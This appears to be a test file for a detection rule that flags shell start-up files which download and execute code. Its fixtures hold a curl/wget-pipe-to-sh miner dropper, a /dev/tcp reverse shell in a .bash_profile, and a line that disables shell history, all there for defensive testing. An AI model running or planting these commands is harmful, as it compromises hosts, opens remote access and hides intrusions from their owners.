import { stockShellFiles, systemFile, userFile } from '../../../test/helpers/stock-shell';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './shell-download-exec';

testRule(rule, {
  valid: [
    { name: 'stock start-up files including the history -a/-c/-r sync idiom', facts: { shellStartup: { files: stockShellFiles() } } },
    {
      name: 'curl used without piping or executing',
      facts: {
        shellStartup: {
          files: [userFile('dev', '/home/dev', '.bashrc', 'alias myip="curl -s https://ifconfig.me"\nexport HISTSIZE=10000\n')],
        },
      },
    },
  ],
  invalid: [
    {
      name: 'miner dropper appended to /etc/profile.d',
      facts: {
        shellStartup: {
          files: [
            systemFile(
              '/etc/profile.d/sysupdate.sh',
              '(curl -fsSL http://185.0.0.1/ldr.sh || wget -q -O- http://185.0.0.1/ldr.sh) | sh >/dev/null 2>&1 &\n',
            ),
          ],
        },
      },
      expect: [
        { severity: 'critical', path: '/etc/profile.d/sysupdate.sh', title: /download-pipe-shell/, evidence: /sysupdate\.sh:1: \(curl/ },
      ],
    },
    {
      name: 'reverse shell in a user .bash_profile',
      facts: {
        shellStartup: {
          files: [userFile('postgres', '/var/lib/postgresql', '.bash_profile', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n')],
        },
      },
      expect: [{ severity: 'critical', user: 'postgres', title: /dev-tcp/ }],
    },
    {
      name: 'history disabled system-wide',
      facts: { shellStartup: { files: [systemFile('/etc/profile', 'export PATH\nunset HISTFILE\n')] } },
      expect: [{ severity: 'high', title: /history is disabled/, evidence: /profile:2: unset HISTFILE/ }],
    },
  ],
});
